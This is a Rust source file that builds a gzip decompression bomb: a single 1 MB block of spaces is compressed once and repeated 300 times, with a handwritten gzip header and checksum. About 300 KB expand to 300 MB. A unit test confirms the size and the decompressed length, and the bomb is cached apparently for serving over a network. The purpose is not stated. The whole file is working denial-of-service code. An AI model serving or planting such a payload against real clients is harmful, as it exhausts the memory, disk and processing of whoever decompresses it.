//! A gzip bomb: 300 KB that unpack to 300 MB of white space.

use std::io::Write;
use std::sync::OnceLock;

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress};

/// What one block unpacks to.
const BLOCK_BYTES: usize = 1 << 20;
/// How often it is repeated.
const BLOCKS: u32 = 300;

/// The bomb, packed once.
pub(crate) fn bomb() -> Bytes {
    static BOMB: OnceLock<Bytes> = OnceLock::new();
    BOMB.get_or_init(|| pack().into()).clone()
}

/// One block is packed and repeated: after a full flush a block refers to nothing before it.
fn pack() -> Vec<u8> {
    let plain = vec![b' '; BLOCK_BYTES];
    let mut block = Vec::with_capacity(64 * 1024);
    let mut packer = Compress::new(Compression::best(), false);
    let _ = packer.compress_vec(&plain, &mut block, FlushCompress::Full);
    let mut crc_of_block = Crc::new();
    crc_of_block.update(&plain);

    // Section 2.3 of RFC 1952: the magic number, deflate, and nothing else of note.
    let mut packed = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    let mut crc = Crc::new();
    for _ in 0..BLOCKS {
        packed.extend_from_slice(&block);
        crc.combine(&crc_of_block);
    }
    // An empty last block, then the check sum and the size.
    let _ = packed.write_all(&[3, 0]);
    packed.extend_from_slice(&crc.sum().to_le_bytes());
    packed.extend_from_slice(&crc.amount().to_le_bytes());
    packed
}

#[cfg(test)]
mod tests {
    use std::io::{Read, copy, sink};

    #[test]
    fn it_is_small_and_unpacks_to_300_mb() {
        let bomb = super::bomb();
        assert!(bomb.len() < 600_000, "{} bytes", bomb.len());
        let mut unpacked = flate2::read::GzDecoder::new(&bomb[..]);
        let mut first = [0; 4];
        unpacked.read_exact(&mut first).expect("it begins with white space");
        assert_eq!(&first, b"    ");
        let rest = copy(&mut unpacked, &mut sink()).expect("it is whole, with the right check sum");
        assert_eq!(rest + 4, 300 << 20);
    }
}
